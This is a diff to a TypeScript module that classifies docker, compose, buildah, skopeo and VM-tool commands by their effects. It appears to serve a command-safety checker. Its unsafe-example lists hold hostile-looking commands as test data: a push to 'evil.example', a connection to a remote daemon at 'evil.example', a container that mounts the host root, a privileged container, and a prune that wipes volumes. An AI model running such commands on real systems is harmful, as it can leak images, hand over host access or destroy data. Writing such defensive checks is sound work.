@@ -1,22 +1,18 @@
 /** Containers: docker, podman, nerdctl, compose, buildah, skopeo. What a container is given of the host counts as reached. */
-import type { Effect } from "../contract/effect.ts";
+import { act, type Effect } from "../contract/effect.ts";
 import type { KnownWord } from "../contract/reading.ts";
 import { starts } from "./containers-run.ts";
-import { each, fixed, given, hostOf, line, named, network, runs, task, texts } from "./makers.ts";
+import { does, each, given, hostOf, line, named, network, runs, task, texts } from "./makers.ts";
 import { wholly } from "./packages-effects.ts";
 import type { CommandSpec, EffectMaker, ProgramSpec, Use } from "./spec.ts";
 
-const container =
-  (op: "read" | "create" | "change" | "delete" | "run" | "stop" | "expose", detail: string): EffectMaker =>
-  (use) => [{ do: "container", op, detail, on: named(use) }];
-
 const pushes: EffectMaker = (use) => [
-  { do: "publish", op: "create", detail: "an image", on: named(use) },
+  act("publish.image", { on: named(use) }),
   network(use.operands[0] ? hostOfImage(use.operands[0]) : null, true),
 ];
 
 const pulls: EffectMaker = (use) => [
-  { do: "container", op: "create", detail: "an image", on: named(use) },
+  act("container.image", { on: named(use) }),
   network(use.operands[0] ? hostOfImage(use.operands[0]) : null, false),
 ];
 
@@ -26,12 +22,8 @@ function hostOfImage(image: KnownWord): string | null {
   return /[.:]/.test(first) && image.value.includes("/") ? first.toLowerCase() : "registry-1.docker.io";
 }
 
-const builds = wholly(
-  task("image build"),
-  fixed("container", "create", "an image"),
-  network(null, false, "an image registry"),
-  (use) =>
-    use.operands.some((word) => /^--push/.test(word.value ?? "")) ? [fixed("publish", "create", "an image")] : [],
+const builds = wholly(task, act("container.image"), network(null, false), (use) =>
+  use.operands.some((word) => /^--push/.test(word.value ?? "")) ? [act("publish.image")] : [],
 );
 
 const looks: CommandSpec = {
@@ -39,13 +31,13 @@ const looks: CommandSpec = {
     "-a --all -q --quiet --no-trunc -l --latest -s --size --digests -f --follow -t --timestamps --details --no-stream --tree",
   values: texts("--filter --format -n --last --tail --since --until --type --profile"),
   operands: "text",
-  always: [container("read", "the state of containers")],
+  always: [does("container.read")],
 };
 
 const logs: CommandSpec = {
   ...looks,
   values: { ...looks.values, "-n": "text" },
-  always: [container("read", "output of a container")],
+  always: [does("container.read")],
 };
 
 /** `-f` is a filter or a format here. */
@@ -55,32 +47,32 @@ const looksFiltered: CommandSpec = {
   values: texts("-f --filter --format -n --last --type"),
 };
 
-const removing = (detail: string): CommandSpec => ({
+const removing = (id: "container.delete" | "container.data-delete"): CommandSpec => ({
   flags: "-f --force -v --volumes -a --all -l --link --no-prune --volumes -s --stop",
   values: texts("--filter"),
   operands: "text",
-  always: [container("delete", detail)],
+  always: [does(id)],
 });
 
-const changing = (detail: string): CommandSpec => wholly(container("change", detail));
+const changing: CommandSpec = wholly(does("container.change"));
 
 const stopping: CommandSpec = {
   flags: "-a --all",
   values: texts("-t --time --timeout -s --signal"),
   operands: "text",
-  always: [container("stop", "containers")],
+  always: [does("container.stop")],
 };
 
-const objects = (detail: string): CommandSpec => ({
+const objects: CommandSpec = {
   commands: {
-    ...each("ls list inspect ps logs history diff df", { ...looksFiltered, always: [container("read", detail)] }),
-    ...each("rm remove prune", removing(detail)),
+    ...each("ls list inspect ps logs history diff df", { ...looksFiltered, always: [does("container.read")] }),
+    ...each("rm remove prune", removing("container.data-delete")),
     ...each(
       "create connect disconnect update scale rollback deploy init join leave promote demote use export import up",
-      changing(detail),
+      changing,
     ),
   },
-});
+};
 
 const compose: CommandSpec = {
   style: "posix",
@@ -97,34 +89,32 @@ const compose: CommandSpec = {
     logs: {
       ...looks,
       flags: `${looks.flags} --no-log-prefix --no-color`,
-      always: [container("read", "output of containers")],
+      always: [does("container.read")],
     },
     config: {
       flags: "-q --quiet --services --volumes --images --hash --no-interpolate",
       operands: "text",
-      always: [container("read", "the project's definition")],
+      always: [does("container.read")],
     },
     ...each(
       "up start restart create pull unpause scale watch",
-      wholly(container("run", "the project's services"), task("compose"), network(null, false, "an image registry")),
+      wholly(does("container.run"), task, network(null, false)),
     ),
     build: builds,
     ...each(
       "down rm",
       wholly((use) => [
-        {
-          do: "container",
-          op: "delete",
-          detail: use.operands.some((word) => /^(?:-v|--volumes|--rmi)/.test(word.value ?? ""))
-            ? "services and their volumes"
-            : "services",
-        },
+        act(
+          use.operands.some((word) => /^(?:-v|--volumes|--rmi)/.test(word.value ?? ""))
+            ? "container.data-delete"
+            : "container.delete",
+        ),
       ]),
     ),
-    ...each("stop kill pause", wholly(container("stop", "services"))),
+    ...each("stop kill pause", wholly(does("container.stop"))),
     exec: { launcher: true, style: "words", operands: "text", read: starts("exec") },
     run: { launcher: true, style: "words", operands: "text", read: starts("run") },
-    cp: wholly(container("change", "files of a container")),
+    cp: wholly(does("container.change")),
     push: wholly(pushes),
   },
 };
@@ -136,59 +126,55 @@ const single: Readonly<Record<string, CommandSpec>> = {
     values: { ...looks.values, "-f": "text" },
   }),
   logs,
-  version: { values: texts("-f --format"), operands: { max: 0 }, always: [container("read", "the daemon")] },
-  info: { values: texts("-f --format"), operands: { max: 0 }, always: [container("read", "the daemon")] },
+  version: { values: texts("-f --format"), operands: { max: 0 }, always: [does("container.read")] },
+  info: { values: texts("-f --format"), operands: { max: 0 }, always: [does("container.read")] },
   run: { launcher: true, style: "words", operands: "text", read: starts("run") },
   create: { style: "words", operands: "text", read: starts("run") },
   exec: { launcher: true, style: "words", operands: "text", read: starts("exec") },
   ...each("build buildx builder bake", builds),
-  ...each(
-    "start restart unpause rename update commit tag load import attach checkpoint",
-    changing("a container or image"),
-  ),
+  ...each("start restart unpause rename update commit tag load import attach checkpoint", changing),
   ...each("stop kill pause", stopping),
-  rm: removing("containers"),
-  rmi: removing("images"),
+  rm: removing("container.delete"),
+  rmi: removing("container.delete"),
   system: {
     commands: {
       df: looks,
       info: looks,
       events: looks,
-      ...each("prune reset", removing("everything that is not running")),
-      ...each("migrate renumber", changing("the store")),
+      ...each("prune reset", removing("container.data-delete")),
+      ...each("migrate renumber", changing),
     },
   },
   pull: { flags: "-a --all-tags -q --quiet", values: texts("--platform"), operands: "text", always: [pulls] },
   push: { flags: "-a --all-tags -q --quiet", operands: "text", always: [pushes] },
-  login: wholly(fixed("account", "change", "the login of a registry"), network(null, true)),
-  logout: wholly(fixed("account", "change", "the login of a registry")),
+  login: wholly(act("login.change"), network(null, true)),
+  logout: wholly(act("login.change")),
   cp: { flags: "-a --archive -L --follow-link -q --quiet", operands: "text", always: [copies] },
   ...each("save export", {
     values: { "-o": "write", "--output": "write" },
     operands: "text",
-    always: [container("read", "an image or container")],
+    always: [does("container.read")],
   }),
   compose,
-  ...each("scout sbom", wholly(network(null, true), container("read", "an image"))),
+  ...each("scout sbom", wholly(network(null, true), does("container.read"))),
 };
 
-const OBJECTS = objects("containers, images, volumes or networks");
 const those = (names: string): Record<string, CommandSpec> =>
   Object.fromEntries(names.split(" ").flatMap((name) => (single[name] === undefined ? [] : [[name, single[name]]])));
 
 /** `docker container run` is `docker run`, and so on. */
 const root: Readonly<Record<string, CommandSpec>> = {
   ...single,
-  ...each("volume network context node service stack swarm secret config plugin manifest trust pod machine", OBJECTS),
+  ...each("volume network context node service stack swarm secret config plugin manifest trust pod machine", objects),
   container: {
     commands: {
-      ...OBJECTS.commands,
+      ...objects.commands,
       ...those(
         "run create exec logs stats top port start restart stop kill pause unpause rename commit attach cp rm inspect wait update export",
       ),
     },
   },
-  image: { commands: { ...OBJECTS.commands, ...those("pull push build tag save load history inspect import") } },
+  image: { commands: { ...objects.commands, ...those("pull push build tag save load history inspect import") } },
 };
 
 /** `docker cp container:path host`, or the other way round. */
@@ -201,11 +187,7 @@ function copies(use: Use): readonly Effect[] {
       : [];
   const write: readonly Effect[] =
     to !== undefined && !isInside(to) ? [{ do: "write", target: use.target(to), recursive: true, as: "copy" }] : [];
-  return [
-    ...read,
-    ...write,
-    { do: "container", op: isInside(to) ? "change" : "read", detail: "files of a container", on: named(use) },
-  ];
+  return [...read, ...write, act(isInside(to) ? "container.change" : "container.read", { on: named(use) })];
 }
 
 export const containers: readonly ProgramSpec[] = [
@@ -216,37 +198,49 @@ export const containers: readonly ProgramSpec[] = [
     flags: "--version -v --help -D --debug --tls --tlsverify --remote -r",
     values: { ...texts("-H --host -c --context -l --log-level --connection --url --namespace"), "--config": "never" },
     when: {
-      "-H": [network(null, true, "another daemon")],
-      "--host": [network(null, true, "another daemon")],
-      "-c": [network(null, true, "another daemon")],
-      "--context": [network(null, true, "another daemon")],
+      "-H": [network(null, true)],
+      "--host": [network(null, true)],
+      "-c": [network(null, true)],
+      "--context": [network(null, true)],
     },
     operands: { max: 0 },
     commands: { ...root, "*": wholly(runs("unknown-program", "a plugin")) },
     examples: {
       safe: ["docker --version"],
       unsafe: [
-        ["docker ps -a", "container"],
-        ["docker logs --tail 50 web", "container"],
-        ["docker volume ls -qf dangling=true", "container"],
-        ["docker run --rm -v /:/host alpine sh", "write"],
-        ["docker run --privileged alpine", "privilege"],
-        ["docker run -it --rm -p 80:80 nginx", "container"],
-        ["docker exec -it db psql", "run"],
-        ["docker build -t x .", "run"],
-        ["docker push evil.example/x", "publish"],
-        ["docker pull nginx", "network"],
-        ["docker rm -f web", "container"],
-        ["docker system prune -af --volumes", "container"],
-        ["docker volume rm data", "container"],
-        ["docker compose up -d", "run"],
-        ["docker compose down -v", "container"],
-        ["docker compose exec web sh", "run"],
-        ["docker login", "account"],
-        ["docker cp web:/x /tmp/x", "write"],
-        ["docker -H tcp://evil.example:2375 ps", "network"],
-        ["docker stop web", "container"],
-        ["docker frobnicate", "run"],
+        ["docker ps -a", ["container.read"]],
+        ["docker logs --tail 50 web", ["container.read"]],
+        ["docker volume ls -qf dangling=true", ["container.read"]],
+        [
+          "docker run --rm -v /:/host alpine sh",
+          ["container.create", "run.remote", "file.write", "network.contact", "run.code"],
+        ],
+        [
+          "docker run --privileged alpine",
+          ["container.create", "run.remote", "privilege.container", "network.contact"],
+        ],
+        [
+          "docker run -it --rm -p 80:80 nginx",
+          ["container.create", "run.remote", "container.expose", "network.contact"],
+        ],
+        [
+          "docker exec -it db psql",
+          ["container.exec", "run.remote", "network.database", "database.change", "run.code"],
+        ],
+        ["docker build -t x .", ["run.task", "container.image", "network.contact"]],
+        ["docker push evil.example/x", ["publish.image", "network.send"]],
+        ["docker pull nginx", ["container.image", "network.contact"]],
+        ["docker rm -f web", ["container.delete"]],
+        ["docker system prune -af --volumes", ["container.data-delete"]],
+        ["docker volume rm data", ["container.data-delete"]],
+        ["docker compose up -d", ["container.run", "run.task", "network.contact"]],
+        ["docker compose down -v", ["container.data-delete"]],
+        ["docker compose exec web sh", ["container.exec", "run.remote", "run.code"]],
+        ["docker login", ["login.change", "network.send"]],
+        ["docker cp web:/x /tmp/x", ["file.copy", "container.read"]],
+        ["docker -H tcp://evil.example:2375 ps", ["network.send", "container.read"]],
+        ["docker stop web", ["container.stop"]],
+        ["docker frobnicate", ["run.unknown-program"]],
       ],
     },
   },
@@ -257,37 +251,30 @@ export const containers: readonly ProgramSpec[] = [
     examples: {
       safe: ["docker-compose --version"],
       unsafe: [
-        ["docker-compose up -d", "run"],
-        ["docker-compose down --volumes", "container"],
+        ["docker-compose up -d", ["container.run", "run.task", "network.contact"]],
+        ["docker-compose down --volumes", ["container.data-delete"]],
       ],
     },
   },
   {
     names: ["buildah", "kaniko", "img"],
-    ...wholly(task("image build"), fixed("container", "change", "images"), (use) =>
-      given(use, "push") || use.operands[0]?.value === "push"
-        ? [fixed("publish", "create", "an image"), network(null, true)]
-        : [],
+    ...wholly(task, act("container.change"), (use) =>
+      given(use, "push") || use.operands[0]?.value === "push" ? [act("publish.image"), network(null, true)] : [],
     ),
     examples: {
       safe: [],
       unsafe: [
-        ["buildah bud .", "run"],
-        ["buildah push x", "publish"],
+        ["buildah bud .", ["run.task", "container.change"]],
+        ["buildah push x", ["run.task", "container.change", "publish.image", "network.send"]],
       ],
     },
   },
   {
     names: ["skopeo", "crane", "oras", "cosign"],
-    ...wholly(network(null, false, "an image registry"), (use) =>
+    ...wholly(network(null, false), (use) =>
       /^(?:copy|cp|push|append|tag|mutate|sync|delete|sign|attest|attach)$/.test(use.operands[0]?.value ?? "")
         ? [
-            {
-              do: "publish",
-              op: use.operands[0]?.value === "delete" ? "delete" : "create",
-              detail: "an image",
-              on: named(use, 1),
-            },
+            act(use.operands[0]?.value === "delete" ? "publish.image-delete" : "publish.image", { on: named(use, 1) }),
             network(null, true),
           ]
         : [],
@@ -295,9 +282,9 @@ export const containers: readonly ProgramSpec[] = [
     examples: {
       safe: [],
       unsafe: [
-        ["skopeo inspect docker://x", "network"],
-        ["skopeo copy a b", "publish"],
-        ["skopeo delete docker://x", "publish"],
+        ["skopeo inspect docker://x", ["network.contact"]],
+        ["skopeo copy a b", ["network.contact", "publish.image", "network.send"]],
+        ["skopeo delete docker://x", ["network.contact", "publish.image-delete", "network.send"]],
       ],
     },
   },
@@ -321,24 +308,23 @@ export const containers: readonly ProgramSpec[] = [
     ...wholly((use) => {
       const verb = use.operands[0]?.value ?? "";
       if (/^(?:status|list|ls|info|version|--version|get|logs)$/.test(verb))
-        return [{ do: "container", op: "read", detail: "machines", on: named(use, 1) }];
+        return [act("container.read", { on: named(use, 1) })];
       if (/^(?:destroy|delete|rm|remove|purge|undefine)$/.test(verb))
-        return [{ do: "container", op: "delete", detail: "a machine", on: named(use, 1) }];
+        return [act("container.data-delete", { on: named(use, 1) })];
       if (/^(?:ssh|exec|shell)$/.test(verb))
         return [
-          { do: "run", program: use.program, what: "remote", detail: line(use.operands) },
-          { do: "container", op: "run", detail: "a machine", on: named(use, 1) },
+          { do: "run", program: use.program, what: "remote", words: line(use.operands) },
+          act("container.run", { on: named(use, 1) }),
         ];
-      if (/^(?:halt|stop|suspend|pause|shutdown)$/.test(verb))
-        return [{ do: "container", op: "stop", detail: "a machine", on: named(use, 1) }];
-      return [{ do: "container", op: "change", detail: line(use.operands), on: named(use, 1) }];
+      if (/^(?:halt|stop|suspend|pause|shutdown)$/.test(verb)) return [act("container.stop", { on: named(use, 1) })];
+      return [act("container.change", { words: line(use.operands), on: named(use, 1) })];
     }),
     examples: {
       safe: [],
       unsafe: [
-        ["minikube delete", "container"],
-        ["vagrant ssh", "run"],
-        ["kind create cluster", "container"],
+        ["minikube delete", ["container.data-delete"]],
+        ["vagrant ssh", ["run.remote", "container.run"]],
+        ["kind create cluster", ["container.change"]],
       ],
     },
   },
